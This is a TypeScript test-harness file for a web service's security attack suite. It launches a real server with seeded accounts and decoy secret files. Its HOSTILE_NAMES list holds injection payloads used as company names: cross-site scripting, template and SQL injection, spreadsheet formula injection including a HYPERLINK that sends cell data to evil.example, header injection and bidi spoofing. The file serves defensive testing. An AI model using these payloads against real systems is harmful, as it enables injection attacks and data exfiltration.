/** A service to attack, a real process with a temporary data folder, and the form of an attack. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";

import type { Plan } from "../../contract/account.ts";
import { UNITS_PER_CREDIT } from "../../contract/cost.ts";
import { Random } from "../../server/demo/random.ts";
import { hashSecret, mintApiKey } from "../../server/domain/accounts/api-key.ts";
import { hashPassword } from "../../server/domain/accounts/password.ts";
import { csrfTokenOf, mintSessionToken, sessionCookie } from "../../server/domain/accounts/session.ts";
import { openStore } from "../../server/store/open-store.ts";
import type { Store } from "../../server/store/ports/store.ts";
import { firstReading, wholeOf } from "../../server/store/suite/suite-records.ts";
import { type ServerProcess, startServerProcess } from "../bench/serving/server-process.ts";
import { type Answer, sayRaw, send, type Sent } from "./client.ts";

/** Company names that a register can contain and that target programs which process them. */
export const HOSTILE_NAMES: readonly string[] = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "</title><svg onload=alert(1)>",
  "javascript:alert(1)//",
  "{{constructor.constructor('alert(1)')()}}",
  "${7*7}<%= 7*7 %>#{7*7}",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "|calc",
  " \t=1+1",
  "＝1+1",
  "\u200B=1+1",
  "Foo;=1+1",
  'Foo",=1+1,"',
  "Foo\r\n=1+1",
  "\u202Egnp.exe",
  "\u2066hidden\u2069",
  "A\r\nSet-Cookie: evil=1",
  "'; DROP TABLE companies; --",
  "%00%0d%0a",
  "Ｎｏｒｄ ﷺ 𝔘𝔫𝔦",
  `Z${"\u0335\u0321\u0489".repeat(30)}algo`,
  "__proto__",
];

export const PASSWORD = "correct horse battery";
/** Content of files that no request must be able to read. */
export const SECRET = "the-secret-of-this-file";
export const COMPANIES = 60;

export type Ask = (path: string, sent?: Sent) => Promise<Answer>;

export interface Customer {
  id: number;
  email: string;
  key: string;
  /** Sends a request with the key. */
  ask: Ask;
}

export interface InstanceOptions {
  seed: number;
  /** True for more variants of each attack. */
  isLong: boolean;
}

export class Instance {
  readonly url: string;
  readonly store: Store;
  readonly random: Random;
  readonly isLong: boolean;
  readonly #folder: string;
  readonly #server: ServerProcess;
  readonly #passwordHash: string;
  #customers = 0;
  #addresses = 1;
  #linesRead = 0;

  private constructor(parts: { folder: string; server: ServerProcess; store: Store; hash: string } & InstanceOptions) {
    this.#folder = parts.folder;
    this.#server = parts.server;
    this.#passwordHash = parts.hash;
    this.store = parts.store;
    this.url = parts.server.url;
    this.random = new Random(parts.seed);
    this.isLong = parts.isLong;
  }

  static async start(options: InstanceOptions): Promise<Instance> {
    const folder = mkdtempSync(join(tmpdir(), "nordscope-attack-"));
    const dataDir = join(folder, "data");
    const store = await openStore({ dataDir });
    await store.writer.insertWhole(companies(), firstReading);
    const pages = writePages(folder);
    const server = await startServerProcess(dataDir, { LOG_LEVEL: "error" }, { pages });
    return new Instance({ folder, server, store, hash: await hashPassword(PASSWORD), ...options });
  }

  /** Creates a separate account for an attack, so that attacks do not affect each other's limits. */
  async customer({ plan = "enterprise", credits }: { plan?: Plan; credits?: number } = {}): Promise<Customer> {
    const { users, credits: ledger } = this.store.accounts;
    this.#customers += 1;
    const [email, now] = [`customer${this.#customers}@firma.example`, new Date()];
    const user = await users.create({ email, passwordHash: this.#passwordHash, plan }, now);
    if (!user) throw new Error(`${email} is taken`);
    if (credits !== undefined) {
      const { balance } = await ledger.balance(user.id);
      await ledger.adjust(user.id, Math.round((credits - balance) * UNITS_PER_CREDIT), now);
    }
    const key = await this.keyOf(user.id);
    return { id: user.id, email, key, ask: this.as(key) };
  }

  /** Creates a further key of an account. */
  async keyOf(userId: number): Promise<string> {
    const { key, prefix, hash } = mintApiKey();
    await this.store.accounts.credentials.createKey(userId, { name: "Attack", prefix, hash }, new Date());
    return key;
  }

  as(key: string): Ask {
    return (path, sent = {}) =>
      this.send(path, { ...sent, headers: { Authorization: `Bearer ${key}`, ...sent.headers } });
  }

  send(path: string, sent?: Sent): Promise<Answer> {
    return send(this.url, path, sent);
  }

  say(bytes: string | Uint8Array): Promise<string> {
    return sayRaw(this.url, bytes);
  }

  /** Cookie and CSRF token of a new session. */
  async session({ id, email }: Customer): Promise<{ cookie: string; csrf: string }> {
    const token = mintSessionToken(email, await this.store.secrets.secret("session"));
    await this.store.accounts.credentials.openSession(id, hashSecret(token), new Date());
    const cookie = sessionCookie(token, { secure: false }).split(";")[0] ?? "";
    return { cookie, csrf: csrfTokenOf(token) };
  }

  /**
   * A loopback address that no other attack uses, with separate counters of failures and requests. On Linux all of
   * 127.0.0.0/8 is this machine, elsewhere only 127.0.0.1.
   */
  address(): string {
    this.#addresses += 1;
    return process.platform === "linux" ? `127.0.0.${this.#addresses}` : "127.0.0.1";
  }

  /** Error lines that the server has logged since the last call; attacks must not cause any. */
  newErrors(): string[] {
    const lines = this.#server.said.slice(this.#linesRead);
    this.#linesRead += lines.length;
    return lines.filter((line) => line.startsWith('{"level":50'));
  }

  async stop(): Promise<void> {
    await this.#server.kill();
    await this.store.close();
    rmSync(this.#folder, { recursive: true });
  }
}

function companies() {
  return Array.from({ length: COMPANIES }, (_, n) => {
    const fullCompany = wholeOf(String(10_000_000 + n));
    return { ...fullCompany, facts: { ...fullCompany.facts, name: HOSTILE_NAMES[n] ?? fullCompany.facts.name } };
  });
}

/** Creates the folder of a dashboard with files inside and next to it that must not be served. @returns its path */
function writePages(folder: string): string {
  const files = {
    "web/index.html": "<!doctype html><title>shell</title>",
    "web/assets/app-1a2b3c.js": 'console.log("served")',
    "web/assets/app-1a2b3c.js.map": SECRET,
    "web/.vite/manifest.json": JSON.stringify({ secret: { file: SECRET } }),
    "web/.vite/page-parts.json": "{}",
    "web/.env": SECRET,
    "web/notes.exe": SECRET,
    "secret.txt": SECRET,
    "package.json": JSON.stringify({ secret: SECRET }),
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  return join(folder, "web");
}

/** An attack that the service must withstand. */
export interface Attack {
  /** Short description of the attack. */
  name: string;
  /** True when it takes more than a second or two; it is then not part of `npm test`. */
  isLong?: true;
  /** @throws when it succeeds, with the response */
  run(instance: Instance): Promise<void>;
}

export interface AttackGroup {
  name: string;
  attacks: readonly Attack[];
}
